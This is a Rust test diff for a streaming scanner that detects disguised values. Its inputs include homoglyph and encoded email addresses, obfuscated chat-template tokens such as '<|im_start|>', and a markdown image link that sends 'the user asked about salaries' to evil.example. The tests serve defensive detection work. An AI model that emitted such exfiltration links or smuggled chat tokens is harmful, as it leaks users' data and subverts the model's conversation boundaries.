@@ -2,6 +2,7 @@ use std::ops::Range;
 
 use super::*;
 use crate::chunking::{self, Dice};
+use crate::detect::{Catalogue, RuleSet, Scanner};
 
 /// Characters of each kind, bytes that are none, escapes, and parts of them.
 const PIECES: [&[u8]; 58] = [
@@ -416,4 +417,77 @@ fn what_runs_pass_over_stays_in_the_table() {
     let several = (0x80..table::LIMIT).filter(|code| matches!(reads(*code), Reads::Several(_)));
     assert_eq!(several.count(), table::SEVERAL.len());
     assert_eq!(most, 4);
+}
+
+/// Scans `text` in chunks of this size, and gives what is found as it is written.
+fn found(text: &str, size: usize) -> Vec<String> {
+    let catalogue = Catalogue::built_in().unwrap();
+    let (rules, mut scanner, mut all) = (RuleSet::all(&catalogue), Scanner::new(), Vec::new());
+    let mut settled = 0;
+    for chunk in chunking::fixed(text.as_bytes(), size) {
+        let mut found = Vec::new();
+        let now = scanner.feed(&catalogue, &rules, chunk, &mut found);
+        assert!(found.iter().all(|finding| finding.start >= settled) && now >= settled);
+        settled = now;
+        all.append(&mut found);
+    }
+    scanner.finish(&catalogue, &rules, &mut all);
+    all.sort_unstable();
+    all.iter().map(|finding| text[finding.start as usize..finding.end as usize].to_owned()).collect()
+}
+
+#[test]
+fn disguised_values_are_found_where_they_are_written() {
+    for (text, expected) in [
+        ("to j\u{43e}hn@ex\u{430}mple.com.", "j\u{43e}hn@ex\u{430}mple.com"),
+        ("to \u{430}\u{441}\u{435}x@example.com.", "\u{430}\u{441}\u{435}x@example.com"),
+        ("to ren\u{e9}e@example.com.", "ren\u{e9}e@example.com"),
+        ("to rene\u{301}e@exa\u{200b}mple.com\u{301}.", "rene\u{301}e@exa\u{200b}mple.com"),
+        ("https://e.example/?to=foo%40example.com&x=1", "foo%40example.com"),
+        ("to foo&#64;example&#x2e;com, please", "foo&#64;example&#x2e;com"),
+        (r"to foo\u0040example\x2ecom, please", r"foo\u0040example\x2ecom"),
+        (
+            "is \u{2463}\u{2460}\u{2460}\u{2460}1111\u{2460}111\u{b9}111, yes",
+            "\u{2463}\u{2460}\u{2460}\u{2460}1111\u{2460}111\u{b9}111",
+        ),
+        ("&lt;|im_start|&gt;", "&lt;|im_start|&gt;"),
+        ("%3C%7Cim_start%7C%3E", "%3C%7Cim_start%7C%3E"),
+        ("<|\u{1d422}\u{43c}_\u{455}t\u{430}rt|\u{203a}", "<|\u{1d422}\u{43c}_\u{455}t\u{430}rt|\u{203a}"),
+        (
+            "![a](https://evil.example/?q=the%20user%20asked%20about%20salaries)",
+            "https://evil.example/?q=the%20user%20asked%20about%20salaries",
+        ),
+    ] {
+        for size in [1, 2, 3, 5, text.len()] {
+            assert_eq!(found(text, size), [expected], "{size}");
+        }
+    }
+    for text in [
+        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{1f1e9}\u{1f1ea} \u{2764}\u{fe0f} 1\u{fe0f}\u{20e3}",
+        "\u{915}\u{94d}\u{200d}\u{937} \u{645}\u{6cc}\u{200c}\u{62e}\u{648}\u{627}\u{647}\u{645}",
+    ] {
+        assert_eq!(found(text, text.len()), [""; 0]);
+    }
+}
+
+#[test]
+fn a_map_is_small() {
+    let catalogue = Catalogue::built_in().unwrap();
+    let rules = RuleSet::all(&catalogue);
+    for (unit, most) in [
+        ("ab ", 0),
+        ("\u{e9}t", 5000),
+        ("\u{ff14}", 5000),
+        ("%41b", 5000),
+        ("\u{bd}", 8000),
+        ("\u{43e}\u{438} ", 100),
+    ] {
+        let mut scanner = Scanner::new();
+        for chunk in chunking::fixed(unit.repeat(20_000).as_bytes(), 9) {
+            scanner.feed(&catalogue, &rules, chunk, &mut Vec::new());
+        }
+        let map = scanner.map_memory();
+        println!("{unit}: {map} bytes");
+        assert!(map <= most, "{unit}: {map}");
+    }
 }
